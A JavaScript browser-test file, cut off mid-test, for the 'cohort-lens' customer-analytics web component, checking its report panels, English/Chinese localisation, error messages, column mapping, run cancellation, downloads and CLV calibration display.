// The demo page and the element beyond the golden numbers: the default sample, both languages,
// the embed example, errors and rejected rows, cancelling a run, the re-run switches, downloads,
// file values rendered as text only, and a CSP that stops data from leaving the page.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readFileSync, writeFileSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { start, openPage, check, waitForResults, golden, setOptions, dropFile, pickFile, unstickNav, close, uiFormat, SHOTS, ROOT, SITE } from "./harness.mjs";

let env;
let tmp;
before(async () => {
  env = await start();
  tmp = mkdtempSync(join(tmpdir(), "cohortlens-page-"));
});
after(async () => { await env?.stop(); });

const lens = (page, css) => page.locator(`cohort-lens ${css}`);
const PANELS = ["data", "kpis", "cohorts", "funnel", "periods", "rfm", "breakdowns", "churn"];
// The page matches refunds to the purchases they reverse (preset "page", matchRefunds): in tiny,
// c07's only purchase (150.00) is reversed by its −150.00 refund forty minutes later, so the page
// counts one buyer fewer than the engine-default golden report (docs/refunds.md).
const TINY_PAGE_BUYERS = golden("tiny").report.summary.customers - 1;

async function panelShots(page, prefix) {
  await unstickNav(page);
  for (const id of [...PANELS, "clv"]) {
    if (await lens(page, `#panel-${id}`).count()) await lens(page, `#panel-${id}`).screenshot({ path: join(SHOTS, `${prefix}-${id}.png`) });
  }
}

test("the demo page loads the sample by default and renders every section (en)", async () => {
  const page = await openPage(env, "/");
  try {
    const [result] = await waitForResults(page);
    assert.equal(result.type, "cohort-lens-report");
    for (const id of PANELS) assert.equal(await lens(page, `#panel-${id}`).count(), 1, `panel ${id}`);
    assert.equal(await lens(page, "#panel-clv").count(), result.detail.clv ? 1 : 0, "CLV panel iff report.clv");
    // The page runs the CLV calibration check with the automatic split.
    assert.equal(await page.evaluate(() => document.querySelector("cohort-lens").effectiveOptions.calibrationSplit), "auto");
    assert.ok(result.detail.clv?.calibration, "the sample's report has a calibration check");
    assert.equal(await lens(page, "figure[data-chart=clv-calibration]").count(), 1);
    // The silent list is the Report's (churn.silentCustomers), rendered with the report.
    const silent = result.detail.churn.silentCustomers;
    assert.ok(silent.length > 0, "the sample has silent customers");
    assert.equal(silent.length, Math.min(200, result.detail.churn.silent));
    const silentRows = await lens(page, "table[data-table=silent-customers] tbody tr").evaluateAll((trs) => trs.map((tr) => ({
      customer: tr.dataset.customer, first: tr.cells[0].textContent, recency: tr.cells[2].dataset.value, purchases: tr.cells[3].dataset.value,
    })));
    assert.equal(silentRows.length, silent.length);
    assert.deepEqual(silentRows.slice(0, 20), silent.slice(0, 20).map((c) => ({
      customer: c.customer, first: c.customer, recency: String(c.recency), purchases: String(c.purchases),
    })));
    // The RFM grid is labelled with the engine's segment of each cell (report.rfm.gridSegments).
    const grid = await lens(page, "table[data-table=rfm-grid] td[data-r]").evaluateAll((tds) => tds.map((td) => ({ r: Number(td.dataset.r), f: Number(td.dataset.f), segment: td.dataset.segment, label: td.querySelector("span:last-child").textContent })));
    assert.equal(grid.length, 25);
    const names = { champions: "Champions", loyal: "Loyal", potentialLoyalists: "Potential loyalists", newCustomers: "New customers", promising: "Promising", needAttention: "Need attention", aboutToSleep: "About to sleep", cantLoseThem: "Can’t lose them", atRisk: "At risk", hibernating: "Hibernating" };
    for (const cell of grid) {
      const want = result.detail.rfm.gridSegments[cell.r - 1][cell.f - 1];
      assert.equal(cell.segment, want, `R${cell.r} F${cell.f}`);
      assert.equal(cell.label, names[want], `R${cell.r} F${cell.f} label`);
    }
    // Segments in the engine's order.
    assert.deepEqual(await lens(page, "table[data-table=rfm-segments-rf10] tbody tr").evaluateAll((trs) => trs.map((tr) => tr.dataset.segment)),
      result.detail.rfm.segments.map((s) => s.segment));
    // Nothing asks the worker for the customer table to render the report: the page's calls are
    // the preset and the analysis, nothing more (no export, no CSV parsed on this thread).
    await page.waitForTimeout(300);
    assert.deepEqual(await page.evaluate(() => window.__workerCalls.map((c) => c.type)), ["preset", "analyze"]);
    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "Repurchase rate");
    // Charts are SVG with a PNG and an SVG download each.
    const charts = await lens(page, "figure[data-chart]").count();
    assert.ok(charts >= 7, `charts: ${charts}`);
    assert.equal(await lens(page, "figure[data-chart] [data-download=png]").count(), charts);
    assert.equal(await lens(page, "figure[data-chart] [data-download=svg]").count(), charts);
    // Every table has a CSV download (named after the table).
    const missing = await page.evaluate(() => {
      const root = document.querySelector("cohort-lens").shadowRoot;
      return [...root.querySelectorAll("table")].map((t) => t.dataset.table)
        .filter((name) => !name || !root.querySelector(`[data-download=csv][data-name^="${name}"]`));
    });
    assert.deepEqual(missing, []);
    await page.screenshot({ path: join(SHOTS, "page-en.png"), fullPage: true });
    await page.screenshot({ path: join(SHOTS, "page-en-top.png") });
    await panelShots(page, "panel-en");
    check(page, env);
  } finally {
    await page.close();
  }
});

test("Chinese from navigator.language, and the language switch", async () => {
  const page = await openPage(env, "/", { locale: "zh-CN" });
  try {
    await waitForResults(page);
    assert.equal(await page.getAttribute("html", "lang"), "zh-CN");
    assert.equal(await page.locator("#sample").textContent(), "试试示例数据");
    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "复购率");
    assert.equal(await lens(page, "#h-cohorts").textContent(), "同期群");
    await lens(page, "table[data-table=silent-customers]").waitFor();
    await page.screenshot({ path: join(SHOTS, "page-zh.png"), fullPage: true });
    await page.screenshot({ path: join(SHOTS, "page-zh-top.png") });
    await panelShots(page, "panel-zh");

    await page.click("button[data-lang=en]");
    assert.equal(await page.getAttribute("html", "lang"), "en");
    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "Repurchase rate");
    assert.equal(await page.locator("#sample").textContent(), "Try the sample");
    // The choice is remembered.
    await page.reload();
    await waitForResults(page);
    assert.equal(await page.getAttribute("cohort-lens", "lang"), "en");
    check(page, env);
  } finally {
    await page.close();
  }
});

test("examples/embed.html: the element renders its src sample in a host page", async () => {
  const page = await openPage(env, "/embed.html", { locale: "zh-CN" });
  try {
    const [result] = await waitForResults(page);
    assert.equal(result.type, "cohort-lens-report");
    const text = await lens(page, "#panel-kpis [data-kpi=customers] .value").textContent();
    assert.equal(text, String(result.detail.summary.customers));
    // Themed through custom properties: the host page's green reaches the shadow DOM.
    const color = await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .value").evaluate((el) => getComputedStyle(el).color);
    assert.equal(color, "rgb(47, 125, 79)");
    await page.screenshot({ path: join(SHOTS, "embed.png") });
    await page.screenshot({ path: join(SHOTS, "embed-full.png"), fullPage: true });
    // A file dropped on the element itself replaces the sample (no page-level drop code here).
    const g = golden("tiny"); // its columns are found without options
    await dropFile(page, g.file, "tiny.csv", "cohort-lens");
    const [, second] = await waitForResults(page, 2);
    assert.equal(second.detail.summary.customers, TINY_PAGE_BUYERS);
    check(page, env);
  } finally {
    await page.close();
  }
});

test("the element's API: .data as string, Uint8Array and ArrayBuffer; lang; a cross-origin src is refused", async () => {
  const g = golden("cn_gbk");
  const page = await openPage(env);
  try {
    const b64 = readFileSync(g.file).toString("base64");
    const out = await page.evaluate(async ([b64, options]) => {
      const el = document.createElement("cohort-lens");
      el.setAttribute("lang", "zh");
      document.body.append(el);
      const next = () => new Promise((done) => {
        const on = (e) => { el.removeEventListener("cohort-lens-report", on); el.removeEventListener("cohort-lens-error", on); done({ type: e.type, detail: e.detail }); };
        el.addEventListener("cohort-lens-report", on);
        el.addEventListener("cohort-lens-error", on);
      });
      const results = {};
      let r = next();
      el.data = "customer_id,order_date,amount\na,2024-01-01,10\na,2024-02-01,5\nb,2024-01-09,7\n";
      results.string = (await r).detail.summary;
      const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      r = next();
      el.options = options;
      el.data = bytes;
      results.bytes = (await r).detail.summary.customers;
      results.label = el.shadowRoot.querySelector("[data-kpi=repurchaseRate] .label").textContent;
      r = next();
      el.data = bytes.buffer;
      results.buffer = (await r).detail.summary.customers;
      r = next();
      el.options = {};
      el.src = "http://192.0.2.1/orders.csv";
      results.cross = (await r).detail;
      results.bubbled = window.__events.filter((e) => e.type === "cohort-lens-report").length;
      el.remove();
      return results;
    }, [b64, g.options]);
    assert.equal(out.string.customers, 2);
    assert.equal(out.string.repurchaseRate, 0.5);
    assert.equal(out.bytes, g.report.summary.customers);
    assert.equal(out.label, "复购率");
    assert.equal(out.buffer, g.report.summary.customers);
    assert.equal(out.cross.code, "BadInput");
    assert.match(out.cross.message, /同源/);
    assert.equal(out.bubbled, 3, "events bubble out of the element (composed)");
    check(page, env);
  } finally {
    await page.close();
  }
});

/** The bytes of a GBK file with its delimiting commas (outside quotes) made semicolons. */
function semicolons(bytes) {
  // In GBK neither "," nor '"' is ever the second byte of a character: a byte scan is safe.
  let quoted = false;
  return Buffer.from(bytes.map((b) => {
    if (b === 0x22) quoted = !quoted;
    return b === 0x2c && !quoted ? 0x3b : b;
  }));
}

test("the mapping selects list the columns the engine's probe reads (a GBK, semicolon file)", async () => {
  const file = join(tmp, "taobao_gbk_semicolon.csv");
  writeFileSync(file, semicolons(readFileSync(join(ROOT, "examples/data/formats/taobao_gbk.csv"))));
  const { probe } = await import(pathToFileURL(join(SITE, "pkg/node.js")).href);
  const want = await probe(readFileSync(file));
  assert.equal(want.delimiter, ";");
  assert.match(want.encoding, /^(gbk|gb18030)$/);
  assert.ok(want.header.includes("买家会员名"), want.header.join());
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    const [result] = await waitForResults(page);
    assert.equal(result.type, "cohort-lens-report", JSON.stringify(result.detail).slice(0, 300));
    assert.equal(result.detail.ingest.delimiter, want.delimiter);
    assert.equal(result.detail.ingest.encoding, want.encoding);
    // Every role's select offers exactly the probed header, in order, and shows the mapping used.
    const selects = await lens(page, "select[data-role]").evaluateAll((sels) => sels.map((s) => ({
      role: s.dataset.role, value: s.value, options: [...s.options].map((o) => o.value).filter(Boolean),
    })));
    assert.equal(selects.length, 9); // eight roles and the optional product column (SPEC §12)
    for (const s of selects) {
      assert.deepEqual(s.options, want.header, `options of ${s.role}`);
      assert.equal(s.value, result.detail.ingest.mapping[s.role] ?? "", `selected ${s.role}`);
    }
    assert.equal(result.detail.ingest.mapping.customer, want.mapping.customer);
    check(page, env);
  } finally {
    await page.close();
  }
});

test("each mapping dropdown says why the engine chose its column, with the runner-up (issue 13)", async () => {
  const file = join(ROOT, "examples/data/exports/woocommerce.csv");
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    const [result] = await waitForResults(page);
    assert.equal(result.type, "cohort-lens-report", JSON.stringify(result.detail).slice(0, 300));
    const choice = result.detail.ingest.choices.find((c) => c.role === "customer");
    assert.equal(choice.column, "Billing Email");
    assert.equal(choice.runnerUp, "Customer ID");
    assert.equal(await lens(page, "select[data-role=customer]").inputValue(), "Billing Email");
    const why = await lens(page, "small[data-why=customer]").textContent();
    assert.ok(why.includes(choice.reason), why);
    assert.ok(why.includes("Customer ID") && why.includes(choice.runnerUpReason), why);
    for (const c of result.detail.ingest.choices) {
      assert.equal(await lens(page, `small[data-why=${c.role}]`).count(), 1, `explanation of ${c.role}`);
    }
    await lens(page, "#panel-data").screenshot({ path: join(SHOTS, "mapping-why-en.png") });
    check(page, env);
  } finally {
    await page.close();
  }
});

test("every row rejected: the page shows the first rejected row's line, column, text and reason", async () => {
  const file = join(tmp, "all-rejected.csv");
  writeFileSync(file, "customer_id,order_date\nc1,someday\nc2,\n");
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    const [result] = await waitForResults(page);
    assert.equal(result.detail.code, "AllRowsRejected");
    const text = await lens(page, ".error .message .text").textContent();
    for (const part of ["line 2", "column \"order_date\"", "text \"someday\"", "cannot be read as a date"]) {
      assert.ok(text.includes(part), `${part}: ${text}`);
    }
    check(page, env, { allowErrors: false });
  } finally {
    await page.close();
  }
});

test("before any report, the data panel shows the engine's probe: columns, encoding, delimiter, proposed mapping", async () => {
  // No customer column the engine recognises: NoCustomerColumn; the probe still read the file.
  const file = join(tmp, "unmapped.csv");
  writeFileSync(file, Buffer.concat([Buffer.from("who;下单时间;amount\n", "utf8"), Buffer.from("a;2024-01-01;10\na;2024-02-01;12\nb;2024-01-05;7\n")]));
  const { probe } = await import(pathToFileURL(join(SITE, "pkg/node.js")).href);
  const want = await probe(readFileSync(file));
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    const [result] = await waitForResults(page);
    assert.equal(result.detail.code, "NoCustomerColumn");
    await lens(page, "select[data-role=customer] option[value=who]").waitFor({ state: "attached" });
    assert.equal(await lens(page, "#panel-data dd[data-delimiter]").getAttribute("data-delimiter"), want.delimiter);
    assert.equal(await lens(page, "#panel-data dd[data-encoding]").getAttribute("data-encoding"), want.encoding);
    assert.equal(await lens(page, "#panel-data dd[data-columns]").textContent(), want.header.join(", "));
    // The engine's proposal is preselected: choosing the customer keeps it (the time column).
    assert.equal(await lens(page, "select[data-role=time]").inputValue(), want.mapping.time);
    await lens(page, "select[data-role=customer]").selectOption("who");
    const [, second] = await waitForResults(page, 2);
    assert.equal(second.type, "cohort-lens-report", JSON.stringify(second.detail).slice(0, 300));
    assert.deepEqual(second.detail.ingest.mapping, { ...want.mapping, customer: "who" });
    check(page, env);
  } finally {
    await page.close();
  }
});

test("an error shows its code and the engine's message, in the chosen language", async () => {
  const file = join(tmp, "header-only.csv");
  writeFileSync(file, "customer_id,order_date,amount\n");
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    const [result] = await waitForResults(page);
    assert.equal(result.type, "cohort-lens-error");
    assert.equal(result.detail.code, "HeaderOnly");
    const box = lens(page, ".error");
    assert.equal(await box.getAttribute("data-code"), "HeaderOnly");
    assert.equal(await box.locator(".code").textContent(), "HeaderOnly");
    assert.equal(await box.locator(".message .text").textContent(), result.detail.message);
    assert.match(result.detail.message, /header/i);
    assert.match(await box.locator(".where").textContent(), /Line 1/);
    // The mapping selects are there to fix a file the engine could not map.
    assert.equal(await lens(page, "select[data-role=customer]").count(), 1);
    await page.screenshot({ path: join(SHOTS, "error-en.png") });

    await page.click("button[data-lang=zh]");
    await waitForResults(page, 2); // the run is repeated for the engine's Chinese message
    assert.equal(await box.locator(".code").textContent(), "HeaderOnly");
    assert.match(await box.locator(".message .text").textContent(), /表头/);
    assert.match(await box.locator(".where").textContent(), /第 1 行/);
    assert.equal(await box.locator("h2").textContent(), "无法分析此文件");
    await page.screenshot({ path: join(SHOTS, "error-zh.png") });
    check(page, env, { allowErrors: false });
  } finally {
    await page.close();
  }
});

test("a file the engine cannot map: NoCustomerColumn, then fixed with the mapping select", async () => {
  const file = join(tmp, "odd-names.csv");
  writeFileSync(file, "who,when,paid\na,2024-01-01,10\na,2024-02-01,12\nb,2024-01-05,7\n");
  const page = await openPage(env);
  try {
    await pickFile(page, file);
    let [result] = await waitForResults(page);
    assert.equal(result.detail.code, "NoCustomerColumn");
    await lens(page, "select[data-role=customer] option[value=who]").waitFor({ state: "attached" });
    await lens(page, "select[data-role=customer]").selectOption("who");
    await waitForResults(page, 2);
    // Still no time column: the engine names the next problem.
    result = (await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress")))[1];
    if (result.type === "cohort-lens-error") {
      assert.equal(result.detail.code, "NoTimeColumn");
      await lens(page, "select[data-role=time]").selectOption("when");
      await waitForResults(page, 3);
      result = (await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress")))[2];
    }
    assert.equal(result.type, "cohort-lens-report");
    assert.equal(result.detail.summary.customers, 2);
    assert.equal(await lens(page, ".error").count(), 0);
    check(page, env);
  } finally {
    await page.close();
  }
});

test("rejected rows are listed with their line numbers and reasons (en and zh)", async () => {
  const g = golden("tiny");
  const page = await openPage(env);
  try {
    await setOptions(page, g.options);
    await dropFile(page, g.file);
    await waitForResults(page);
    const rows = lens(page, "table[data-table=rejected-rows] tbody tr");
    assert.equal(await rows.count(), g.report.ingest.samples.length);
    const lines = await rows.evaluateAll((trs) => trs.map((tr) => Number(tr.dataset.line)));
    assert.deepEqual(lines, g.report.ingest.samples.map((s) => s.line));
    assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.cells[0].textContent)), ["27", "28"]);
    assert.equal(await rows.nth(1).locator("td").nth(1).textContent(), "2024-13-45 10:00:00");
    assert.equal(await rows.nth(1).locator("td").nth(2).textContent(), "unreadable time");
    assert.match(await lens(page, "#panel-data dd.neg").textContent(), /^2 \(/);
    await unstickNav(page);
    await lens(page, "#panel-data").screenshot({ path: join(SHOTS, "rejected-en.png") });
    await page.click("button[data-lang=zh]");
    assert.equal(await rows.nth(1).locator("td").nth(2).textContent(), "时间无法识别");
    assert.equal(await lens(page, "table[data-table=rejected-rows] thead th").first().textContent(), "行号");
    await lens(page, "#panel-data").screenshot({ path: join(SHOTS, "rejected-zh.png") });
    check(page, env);
  } finally {
    await page.close();
  }
});

test("dropping a second file while the first runs cancels the first", async () => {
  const big = golden("synthetic_5k");
  const small = golden("tiny");
  const page = await openPage(env);
  try {
    await setOptions(page, small.options);
    // Drop the big file, then — in the same task as seeing that its run is under way — the
    // small one, so the first cannot finish in between.
    const state = await page.evaluate(([big, small]) => new Promise((done) => {
      const file = (b64, name) => new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], name);
      const drop = (f) => {
        const dt = new DataTransfer();
        dt.items.add(f);
        document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
      };
      const el = document.querySelector("cohort-lens");
      document.addEventListener("cohort-lens-progress", function once() {
        document.removeEventListener("cohort-lens-progress", once);
        const running = el.running;
        drop(file(small, "tiny.csv"));
        done({ running });
      });
      drop(file(big, "synthetic_5k.csv"));
    }), [readFileSync(big.file).toString("base64"), readFileSync(small.file).toString("base64")]);
    assert.equal(state.running, true, "the first run was under way when the second file arrived");
    const [result] = await waitForResults(page);
    assert.equal(result.detail.summary.customers, TINY_PAGE_BUYERS);
    // Give a cancelled worker every chance to deliver late: nothing may arrive.
    await page.waitForTimeout(2500);
    const results = await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress").map((e) => e.detail.summary?.customers));
    assert.deepEqual(results, [TINY_PAGE_BUYERS]);
    assert.equal(await lens(page, "#panel-kpis [data-kpi=customers] .value").textContent(), String(TINY_PAGE_BUYERS));
    check(page, env);
  } finally {
    await page.close();
  }
});

test("grain, alignment, metric, RFM scheme, mapping and breakdown switches re-run on the same file", async () => {
  const g = golden("lines");
  const page = await openPage(env);
  const results = async (n) => (await waitForResults(page, n))[n - 1];
  try {
    await setOptions(page, g.options);
    await pickFile(page, g.file);
    let r = await results(1);
    assert.equal(r.detail.cohorts.grain, "month");

    await lens(page, "#panel-cohorts select").first().selectOption("week");
    r = await results(2);
    assert.equal(r.detail.cohorts.grain, "week");
    assert.equal(await lens(page, "table[data-table=cohorts] thead th").nth(2).textContent(), "W0");

    await lens(page, "#panel-cohorts button[data-value=relative]").click();
    r = await results(3);
    assert.equal(r.detail.cohorts.alignment, "relative");
    assert.equal(await lens(page, "#panel-cohorts button[data-value=relative]").getAttribute("aria-pressed"), "true");

    // The metric switch only re-renders: active customers of the first cell.
    await lens(page, "#panel-cohorts button[data-value=active]").click();
    const first = r.detail.cohorts.rows[0].cells[0];
    assert.equal(await lens(page, "table[data-table=cohorts] tbody tr td.c").first().getAttribute("data-value"), String(first.active));
    assert.equal(await page.evaluate(() => window.__events.filter((e) => e.type === "cohort-lens-report").length), 3);

    await lens(page, "#panel-rfm button[data-value=cn8]").click();
    r = await results(4);
    assert.equal(r.detail.rfm.scheme, "cn8");
    assert.equal(await lens(page, "table[data-table=rfm-segments-cn8] tbody tr").first().getAttribute("data-segment"), "importantValue");
    // cn8 segments do not follow the R×F grid: the engine gives no grid labels, none are drawn.
    assert.equal(r.detail.rfm.gridSegments, null);
    assert.equal(await lens(page, "table[data-table=rfm-grid] td[data-segment]").count(), 0);

    // A dimension outside options.breakdowns is added to them and computed.
    await lens(page, "#panel-breakdowns select").selectOption("Currency");
    r = await results(5);
    assert.ok(r.detail.breakdowns.some((b) => b.dimension === "Currency"));
    await lens(page, "table[data-table=breakdown-Currency]").waitFor();
    assert.equal(await lens(page, "table[data-table=breakdown-Currency] tbody tr").first().getAttribute("data-group"), "CAD");

    // Mapping: without an amount column every monetary figure is null.
    await lens(page, "select[data-role=amount]").selectOption("");
    r = await results(6);
    assert.equal(r.detail.ingest.mapping.amount, undefined);
    assert.equal(r.detail.summary.averageOrderValue, null);
    assert.equal(await lens(page, "#panel-kpis [data-kpi=averageOrderValue] .value").textContent(), "–");
    await lens(page, "#panel-data button[data-focus=map-reset]").click();
    r = await results(7);
    assert.equal(r.detail.ingest.mapping.amount, "Total");
    check(page, env);
  } finally {
    await page.close();
  }
});

/** The calibration block of the CLV panel, read in one round trip. */
function readCalibration(page) {
  return page.evaluate(() => {
    const root = document.querySelector("cohort-lens").shadowRoot.querySelector("#panel-clv .calibration");
    if (!root) return null;
    const input = root.querySelector("input[type=date]");
    const summary = {};
    for (const el of root.querySelectorAll("[data-cal]")) summary[el.dataset.cal] = { value: el.dataset.value, text: el.textContent };
    return {
      split: root.dataset.calibration,
      input: { value: input.value, min: input.min, max: input.max },
      summary,
      summaryText: root.querySelector(".calibration-summary")?.textContent,
      explain: root.querySelector(".explain").textContent,
      bars: [...root.querySelectorAll("figure[data-chart=clv-calibration] svg rect[data-series]")].map((r) => ({ group: r.dataset.group, series: r.dataset.series, value: r.dataset.value })),
      legend: [...root.querySelectorAll("figure[data-chart=clv-calibration] svg g[transform] text")].map((t) => t.textContent),
      downloads: [...root.querySelectorAll("[data-download]")].map((b) => `${b.dataset.download}:${b.dataset.name}`),
      rows: [...root.querySelectorAll("table[data-table=clv-calibration] tbody tr")].map((tr) => ({
        frequency: tr.dataset.frequency,
        cells: [...tr.cells].map((c) => ({ value: c.dataset.value ?? null, text: c.textContent })),
      })),
      auto: root.querySelector("[data-focus=clv-calibration-auto]") != null,
    };
  });
}

const num = (s) => (s === "" || s == null ? null : Number(s));

/** The calibration's series in chart order: each model fitted before the split, then actual. */
const calSeries = (cal) => [cal.bgnbd ? "predicted" : null, cal.paretoNbd ? "predictedParetoNbd" : null, "actual"].filter(Boolean);

/**
 * What the calibration block shows is report.clv.calibration: chart bars (both models' and the
 * actual purchases), table, summary line (the model in use, report.clv.model).
 */
function assertCalibration(got, clv, lang = "en") {
  const cal = clv.calibration;
  const used = clv.model === "paretoNbd" ? cal.predictedParetoNbd : cal.predicted;
  const f = uiFormat(lang);
  assert.ok(got, "calibration block rendered");
  assert.equal(got.split, cal.split);
  assert.equal(got.input.value, cal.split.slice(0, 10), "the date input shows the report's split");
  assert.equal(got.summary.split.text, cal.split.slice(0, 10));
  close(num(got.summary.holdout.value), cal.holdout, "holdout");
  close(num(got.summary.predicted.value), used, "predicted");
  assert.equal(got.summary.predicted.text, new Intl.NumberFormat(lang === "zh" ? "zh-CN" : "en-US", { minimumFractionDigits: 1, maximumFractionDigits: 1 }).format(used));
  assert.equal(Number(got.summary.actual.value), cal.actual);
  assert.equal(got.summary.actual.text, f.int(cal.actual));
  close(num(got.summary.diff.value), (used - cal.actual) / cal.actual, "difference");
  const groups = cal.groups.map((g) => g.frequency);
  assert.deepEqual(groups, ["0", "1", "2", "3", "4", "5", "6", "7+"]);
  // Chart: a bar per model and an actual bar per frequency group, in order.
  const series = calSeries(cal);
  assert.deepEqual(got.bars.map((b) => `${b.group}/${b.series}`), groups.flatMap((g) => series.map((k) => `${g}/${k}`)));
  cal.groups.forEach((g, i) => {
    series.forEach((k, j) => close(num(got.bars[series.length * i + j].value), g[k], `bar ${g.frequency} ${k}`));
  });
  // Table: customers and the two means per group.
  assert.deepEqual(got.rows.map((r) => r.frequency), groups);
  cal.groups.forEach((g, i) => {
    const [label, customers, predicted, actual] = got.rows[i].cells;
    assert.equal(label.text, g.frequency);
    assert.equal(Number(customers.value), g.customers, `customers ${g.frequency}`);
    close(num(predicted.value), g.predicted, `table ${g.frequency} predicted`);
    close(num(actual.value), g.actual, `table ${g.frequency} actual`);
    assert.equal(predicted.text, g.predicted == null ? "" : f.dec2(g.predicted));
    assert.equal(actual.text, g.actual == null ? "" : f.dec2(g.actual));
  });
  assert.equal(cal.groups.reduce((a, g) => a + g.customers, 0), cal.customers);
  assert.deepEqual(got.downloads.sort(), ["csv:clv-calibration", "png:clv-calibration", "svg:clv-calibration"]);
}

test("CLV calibration check: chart, table and summary are the report's; the split date re-runs", async () => {
  const page = await openPage(env);
  const results = async (n) => (await waitForResults(page, n))[n - 1].detail;
  const dateInput = lens(page, "#panel-clv input[type=date]");
  try {
    // A split in the caller's options is used instead of "auto".
    await setOptions(page, { calibrationSplit: "2024-03-01" });
    await page.click("#sample");
    let r = await results(1);
    assert.equal(r.clv.calibration.split, "2024-03-01T00:00:00");
    let got = await readCalibration(page);
    assertCalibration(got, r.clv);
    // The day after the sample's first order (2023-01-02) to its last day.
    assert.equal(r.summary.firstOrder.slice(0, 10), "2023-01-02");
    assert.equal(got.input.min, "2023-01-03");
    assert.equal(got.input.max, "2024-12-31");
    assert.ok(got.auto, "an Auto button when the split is not automatic");
    assert.deepEqual(got.legend, ["Predicted (BG/NBD)", "Predicted (Pareto/NBD)", "Actual"]);
    assert.match(got.explain, /model sees only the purchases before the split date/);
    assert.match(got.summaryText, /^Fitted on purchases before 2024-03-01; over the next [\d.]+ weeks: (BG|Pareto)\/NBD predicted [\d,.]+ vs actual [\d,]+ repeat purchases \([+−][\d.]+% vs actual\)$/);

    // The table downloads as CSV with the raw numbers.
    const [d] = await Promise.all([page.waitForEvent("download"), lens(page, "[data-download=csv][data-name=clv-calibration]").click()]);
    assert.equal(d.suggestedFilename(), "sample-orders-clv-calibration.csv");
    const csv = readFileSync(await d.path(), "utf8").replace(/^\uFEFF/, "").trim().split("\r\n");
    assert.equal(csv.length, 9);
    const g0 = r.clv.calibration.groups[0];
    assert.equal(csv[1], `0,${g0.customers},${g0.predicted},${g0.actual},${g0.predicted - g0.actual},${g0.predictedParetoNbd}`);

    const [png] = await Promise.all([page.waitForEvent("download"), lens(page, "figure[data-chart=clv-calibration] [data-download=png]").click()]);
    assert.equal(png.suggestedFilename(), "sample-orders-clv-calibration.png");
    assert.deepEqual([...readFileSync(await png.path()).subarray(0, 4)], [0x89, 0x50, 0x4e, 0x47]);

    // Choosing another date re-runs with it.
    await dateInput.fill("2024-09-01");
    r = await results(2);
    assert.equal(r.clv.calibration.split, "2024-09-01T00:00:00");
    assertCalibration(await readCalibration(page), r.clv);

    // A date outside the data is not run: a hint says which dates work (Enter: no pause).
    await dateInput.fill("2030-01-01");
    await dateInput.press("Enter");
    await lens(page, "#panel-clv [data-calibration=range]").waitFor({ state: "visible", timeout: 300 });
    assert.equal(await dateInput.getAttribute("aria-invalid"), "true");
    assert.equal(await page.evaluate(() => window.__events.filter((e) => e.type === "cohort-lens-report").length), 2);

    // Auto: the last third of the window (first purchase 2023-01-01, asOf 2025-01-01).
    await lens(page, "#panel-clv [data-focus=clv-calibration-auto]").click();
    r = await results(3);
    assert.equal(r.clv.calibration.split, "2024-05-02T00:00:00");
    got = await readCalibration(page);
    assertCalibration(got, r.clv);
    assert.ok(!got.auto);

    await unstickNav(page);
    await lens(page, "#panel-clv .calibration").screenshot({ path: join(SHOTS, "clv-calibration-en.png") });
    // The report has engine warnings (the model choice), so the switch re-runs once to have them
    // in Chinese; the figures are the same.
    await page.click("button[data-lang=zh]");
    r = await results(4);
    got = await readCalibration(page);
    assertCalibration(got, r.clv, "zh");
    assert.deepEqual(got.legend, ["预测（BG/NBD）", "预测（Pareto/NBD）", "实际"]);
    assert.match(got.explain, /^回测：/);
    assert.match(got.summaryText, /^基于 2024-05-02 之前的购买拟合；此后 [\d.]+ 周内：(BG|Pareto)\/NBD 预测复购 [\d,.]+ 次，实际 [\d,]+ 次（较实际 [+−][\d.]+%）$/);
    await lens(page, "#panel-clv .calibration").screenshot({ path: join(SHOTS, "clv-calibration-zh.png") });
    assert.equal(await page.evaluate(() => window.__events.filter((e) => e.type === "cohort-lens-report").length), 4, "the language switch re-runs once, for the warnings");
    check(page, env);
  } finally {
    await page.close();
  }
});

test("CLV: the model in use and why, how to read it, KPI definitions; without a fit, the reason in plain words (en and zh)", async () => {
  const page = await openPage(env, "/");
  try {
    const [result] = await waitForResults(page);
    const clv = result.detail.clv;
    // The page chooses the model on the holdout (clvModel "auto") and shows both scores.
    assert.equal(await page.evaluate(() => document.querySelector("cohort-lens").effectiveOptions.clvModel), "auto");
    assert.ok(clv.holdout?.bgnbd && clv.holdout?.paretoNbd, "both models scored on the holdout");
    const model = lens(page, "#panel-clv [data-clv-model]");
    assert.equal(await model.getAttribute("data-clv-model"), clv.model);
    assert.match(await model.textContent(), new RegExp(`^Model used: ${clv.model === "paretoNbd" ? "Pareto/NBD" : "BG/NBD"} — chosen on the purchases after the split date`));
    const read = lens(page, "#panel-clv details[data-how-to-read=clv]");
    assert.equal(await read.locator("summary").textContent(), "How to read this");
    assert.match(await read.textContent(), /P\(alive\) — the chance that the customer still buys from you/);
    const defs = await page.evaluate(() => [...document.querySelector("cohort-lens").shadowRoot.querySelectorAll("#panel-clv [data-kpi]")].map((k) => [k.dataset.kpi, k.dataset.definition, k.title]));
    assert.ok(defs.length >= 4);
    for (const [name, def, title] of defs) assert.ok(def && def === title, `KPI ${name} has a definition`);
    // The ingest summary says how many purchases refunds reversed (matchRefunds is on).
    assert.equal(await page.evaluate(() => document.querySelector("cohort-lens").effectiveOptions.matchRefunds), true);

    check(page, env);
  } finally {
    await page.close();
  }
